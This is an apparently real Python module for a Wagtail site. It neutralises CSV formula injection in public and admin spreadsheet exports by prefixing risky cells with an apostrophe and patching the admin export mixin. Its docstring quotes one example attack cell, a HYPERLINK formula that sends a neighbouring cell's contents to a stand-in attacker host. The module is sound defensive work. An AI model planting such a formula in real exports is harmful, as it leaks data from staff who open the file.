"""Spreadsheet files that show text as text: no formula from a visitor runs on a staff member's machine.

Deeds, organisations and form submissions carry text written by anonymous visitors. A cell
such as ``=HYPERLINK("https://evil.example/?"&A2, "Click")`` in a CSV file becomes a live
formula when the file is opened in Excel or LibreOffice (CSV injection). ``spreadsheet_safe``
neutralises such a cell; the public open data files (teot/exports.py) and every staff export
in the Wagtail admin (``protect_admin_exports``) use it.
"""

import re

# Phone numbers and plain numbers ("+358 40 123 4567", "-5") can run nothing; they stay as they are.
HARMLESS_NUMBER = re.compile(r"^[+-]?[\d\s().,/-]*$")
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def spreadsheet_safe(value):
    """A CSV cell that spreadsheet programs show as text instead of running it as a formula.

    Text beginning with = + - @ (or a tab or carriage return) gets a leading
    apostrophe, as OWASP advises against CSV injection, unless it is only a
    number or phone number. Numbers stay numbers.
    """
    if isinstance(value, str) and value[:1] in FORMULA_STARTS and not HARMLESS_NUMBER.match(value):
        return "'" + value
    return value


def protect_admin_exports():
    """Make every CSV export of the Wagtail admin formula-safe, in one place.

    All of the admin's spreadsheet exports (snippet listings such as deeds and organisations,
    form submissions, the reports: site history, page types, locked pages…) inherit
    ``SpreadsheetExportMixin`` and pass every cell through its ``preprocess_field_value``:
    wrapping that one method covers them all, including views added later. Done once, from
    ``HomeConfig.ready``.

    CSV cells get ``spreadsheet_safe``. XLSX cells are left as they are: Wagtail's
    ``generate_xlsx_row`` already stores a cell openpyxl would take for a formula as a string
    (tests/test_admin_security.py checks both).
    """
    from wagtail.admin.views.mixins import SpreadsheetExportMixin

    original = SpreadsheetExportMixin.preprocess_field_value
    if getattr(original, "formula_safe", False):
        return

    def preprocess_field_value(self, field, value, export_format):
        value = original(self, field, value, export_format)
        if export_format == self.FORMAT_CSV:
            value = spreadsheet_safe(value)
        return value

    preprocess_field_value.formula_safe = True
    SpreadsheetExportMixin.preprocess_field_value = preprocess_field_value
